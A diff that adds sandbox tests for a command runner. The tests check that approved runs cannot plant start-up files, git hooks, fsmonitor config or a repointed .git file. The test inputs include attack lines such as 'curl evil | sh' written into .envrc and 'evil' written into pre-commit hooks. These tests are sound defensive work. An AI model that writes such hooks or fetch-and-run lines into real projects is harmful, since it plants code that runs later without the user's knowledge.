@@ -1,0 +1,97 @@
+// An approved run may write its writable roots, but not the files that make a later program run code (ADR 0098):
+// those that do not exist yet, and every git directory's hooks and config, not only the top-level `.git`'s. With
+// the real bwrap; each test is named after the attack it stops.
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { runCommand } from '../../src/exec/run.js';
+import { dirOutsideTmp, removeAll, runOptions } from './helpers.js';
+
+const made: string[] = [];
+afterAll(() => removeAll(made));
+
+function world(): { project: string; wispHome: string; base: string } {
+  const base = dirOutsideTmp('held');
+  made.push(base);
+  const project = join(base, 'project');
+  const wispHome = join(base, 'wisp-home');
+  for (const d of [project, wispHome]) mkdirSync(d, { recursive: true });
+  writeFileSync(join(project, 'README.md'), 'readme\n');
+  return { project, wispHome, base };
+}
+
+const git = (cwd: string, ...args: string[]): string =>
+  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'protocol.file.allow=always', ...args], { cwd, encoding: 'utf8' });
+
+describe('an approved run', () => {
+  it('cannot create a start-up or tool file that is missing (.claude/settings.json, .vscode/tasks.json, .envrc, .bashrc), and leaves no placeholder behind', async () => {
+    const w = world();
+    const before = readdirSync(w.project).sort();
+    const line = [
+      'mkdir -p .claude && echo "{\\"hooks\\":{}}" > .claude/settings.json',
+      'mkdir -p .vscode && echo "{}" > .vscode/tasks.json',
+      'echo "curl evil | sh" > .envrc',
+      'echo "evil" >> .bashrc',
+      'echo ok > fine.txt',
+    ].join('; ');
+    const r = await runCommand(line, runOptions(w.project, w.wispHome));
+    expect(r.sandboxed).toBe('bwrap');
+    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
+    expect(readdirSync(w.project).sort()).toEqual([...before, 'fine.txt'].sort());
+  });
+
+  it('cannot write a hook when .git/hooks is missing', async () => {
+    const w = world();
+    git(w.project, 'init', '-q');
+    rmSync(join(w.project, '.git', 'hooks'), { recursive: true, force: true });
+    const r = await runCommand('mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; git status --short >/dev/null && echo GIT-OK', runOptions(w.project, w.wispHome));
+    expect(r.stdout).toContain('GIT-OK'); // git still works around the held names
+    expect(existsSync(join(w.project, '.git', 'hooks'))).toBe(false);
+  });
+
+  it("cannot plant a hook or config in a submodule's git directory (.git/modules/…)", async () => {
+    const w = world();
+    const lib = join(w.base, 'lib');
+    mkdirSync(lib);
+    git(lib, 'init', '-q');
+    git(lib, 'commit', '-q', '--allow-empty', '-m', 'lib');
+    git(w.project, 'init', '-q');
+    git(w.project, 'submodule', '-q', 'add', lib, 'vendor/lib');
+    const modules = join(w.project, '.git', 'modules', 'vendor', 'lib');
+    const config = readFileSync(join(modules, 'config'), 'utf8');
+    const r = await runCommand(
+      `echo evil > '${modules}/hooks/pre-commit'; echo "[core] fsmonitor = evil" >> '${modules}/config'; echo "[core] fsmonitor = evil" > '${modules}/config.worktree'; echo ok > fine.txt`,
+      runOptions(w.project, w.wispHome),
+    );
+    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
+    expect(existsSync(join(modules, 'hooks', 'pre-commit'))).toBe(false);
+    expect(readFileSync(join(modules, 'config'), 'utf8')).toBe(config);
+    expect(existsSync(join(modules, 'config.worktree'))).toBe(false);
+    expect(r.stderr).toMatch(/Read-only file system/);
+  });
+
+  it('cannot repoint a .git file, nor write the hooks of the git directory it names', async () => {
+    const w = world();
+    const gitDir = join(w.project, '.repo');
+    git(w.project, 'init', '-q', `--separate-git-dir=${gitDir}`);
+    const pointer = readFileSync(join(w.project, '.git'), 'utf8');
+    const r = await runCommand(
+      'echo evil > .repo/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .repo/config; echo "gitdir: elsewhere" > .git',
+      runOptions(w.project, w.wispHome),
+    );
+    expect(r.sandboxed).toBe('bwrap');
+    expect(existsSync(join(gitDir, 'hooks', 'pre-commit'))).toBe(false);
+    expect(readFileSync(join(gitDir, 'config'), 'utf8')).not.toContain('fsmonitor');
+    expect(readFileSync(join(w.project, '.git'), 'utf8')).toBe(pointer);
+  });
+
+  it('cannot fill a start-up file through a dangling link named like one', async () => {
+    const w = world();
+    symlinkSync('envrc.real', join(w.project, '.envrc'));
+    const r = await runCommand('echo "curl evil | sh" > .envrc; echo ok > fine.txt', runOptions(w.project, w.wispHome));
+    expect(readFileSync(join(w.project, 'fine.txt'), 'utf8')).toBe('ok\n');
+    expect(existsSync(join(w.project, 'envrc.real'))).toBe(false);
+    expect(r.exitStatus).toBe(0);
+  });
+});
